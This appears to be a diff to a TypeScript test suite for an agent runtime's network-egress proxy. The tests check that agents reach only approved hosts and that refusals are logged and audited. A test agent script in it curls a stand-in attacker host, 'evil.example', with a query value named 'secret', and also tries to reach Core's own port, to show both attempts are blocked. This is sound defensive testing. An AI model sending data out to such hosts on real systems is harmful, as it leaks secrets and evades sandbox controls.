@@ -164,10 +164,15 @@ describe("a run with network:egress, from the command line on", () => {
     const status = await home.json<{ web_url: string }>(["core", "status"]);
     const page = Number(new URL(status.web_url).port);
     const permissions = [`network:egress:127.0.0.1:${server.port}`, `network:egress:127.0.0.1:${page}`];
+    const coreLines = [
+      "refused to connect to evil.example:80; its manifest does not ask for network:egress:evil.example:80",
+      `refused to connect to 127.0.0.1:${page}: Core's own port is nobody's to reach`,
+      "Core ends the run: a stop was asked for",
+    ];
     const script = [
       "#!/bin/sh",
       `curl -s '${url}'; echo " $?"`,
-      `curl -s 'http://evil.example/path?query=secret' | grep -o 'egress[.][a-z_]*'`,
+      `for again in 1 2; do curl -s 'http://evil.example/path?query=secret' | grep -o 'egress[.][a-z_]*'; done`,
       `curl -s 'http://127.0.0.1:${page}/' | grep -o 'egress[.][a-z_]*'`,
       `curl -s --noproxy '*' -m 5 '${url}'; echo "direct $?"`,
       "env | grep -c NODE_CHANNEL",
@@ -177,8 +182,10 @@ describe("a run with network:egress, from the command line on", () => {
     ];
     const text = script.join("\n").replace("$URL", url);
     await smallAgentAt(home, "com.example.reacher", "running", { permissions }, { "bin/agent": { text, mode: 0o755 } });
-    const lines = async (): Promise<string[]> =>
-      (await home.jsonLines<{ line: string }>(["agents", "logs", "com.example.reacher"])).map(({ line }) => line);
+    const records = (): Promise<{ line: string; stream: string }[]> =>
+      home.jsonLines<{ line: string; stream: string }>(["agents", "logs", "com.example.reacher"]);
+    const lines = async (isCore = false): Promise<string[]> =>
+      (await records()).filter(({ stream }) => (stream === "core") === isCore).map(({ line }) => line);
     await eventually(async () => ((await lines()).includes("ready") ? true : undefined), "the end of its requests");
     const info = await home.json<Record<string, unknown>>(["agents", "info", "com.example.reacher"]);
     expect(JSON.stringify(info)).toContain('"brokered"');
@@ -188,18 +195,70 @@ describe("a run with network:egress, from the command line on", () => {
     expect((await lines()).filter((line) => line !== "Terminated")).toEqual([
       "ok 0",
       "egress.not_approved",
+      "egress.not_approved",
       "egress.core_port",
       "direct 7",
       "0",
       "ready",
-      "Core ends the run: a stop was asked for",
       "ok in its grace",
     ]);
+    expect(await lines(true)).toEqual(coreLines);
     const refused = auditRows(home, "security.egress_refused").map(({ metadata }) => metadata);
     expect(refused).toEqual([
       { agent_id: AGENT_ID, host: "evil.example", port: 80, code: "egress.not_approved" },
       { agent_id: AGENT_ID, host: "127.0.0.1", port: page, code: "egress.core_port" },
+      { agent_id: AGENT_ID, count: 3, phase: "total" },
     ]);
     expect(server.connections()).toBe(2);
+  });
+
+  test("that was requested and not approved, the log of the run names what to approve", async () => {
+    const permissions = ["network:egress:*.example.com", "network:egress:example.org"];
+    const script = [
+      "#!/bin/sh",
+      "for host in a.example.com b.example.com; do curl -s -o /dev/null https://$host/; done",
+      "echo ready; exec sleep 1000",
+    ];
+    const agentId = "com.example.half-approved";
+    await smallAgentAt(
+      home,
+      agentId,
+      "built",
+      { permissions },
+      { "bin/agent": { text: script.join("\n"), mode: 0o755 } },
+    );
+    await home.json(["agents", "enable", agentId, "--approve", "network:egress:example.org"]);
+    await home.json(["agents", "run", agentId]);
+    const log = await eventually(async () => {
+      const { stdout } = await home.cli(["agents", "logs", agentId]);
+      return stdout.includes("ready") ? stdout : undefined;
+    }, "the end of its requests");
+    const command = `(opensentience agents enable ${agentId})`;
+    for (const host of ["a", "b"])
+      expect(log).toContain(
+        `core: refused to connect to ${host}.example.com:443; approve network:egress:*.example.com ${command}`,
+      );
+    await home.json(["agents", "stop", agentId]);
+  });
+
+  test("without any, a run has no proxy, and what is known of the agent says so", async () => {
+    const server = await echoServer();
+    const script = [
+      "#!/bin/sh",
+      'echo "proxy $(env | grep -ci proxy)"',
+      `curl -s -m 5 http://127.0.0.1:${server.port}/; echo "direct $?"`,
+      "echo ready; exec sleep 1000",
+    ];
+    const agentId = "com.example.no-way-out";
+    await smallAgentAt(home, agentId, "running", {}, { "bin/agent": { text: script.join("\n"), mode: 0o755 } });
+    const log = await eventually(async () => {
+      const { stdout } = await home.cli(["agents", "logs", agentId]);
+      return stdout.includes("ready") ? stdout : undefined;
+    }, "the end of its requests");
+    expect(log).toMatch(/proxy 0\n.*direct 7\n/);
+    const { stdout } = await home.cli(["agents", "info", agentId]);
+    expect(stdout).toContain("No network:egress is approved for this agent: it reaches no host and finds no name");
+    expect((await home.json<{ held: string }>(["agents", "info", AGENT_ID])).held).not.toContain("No network:egress");
+    await home.json(["agents", "stop", agentId]);
   });
 });
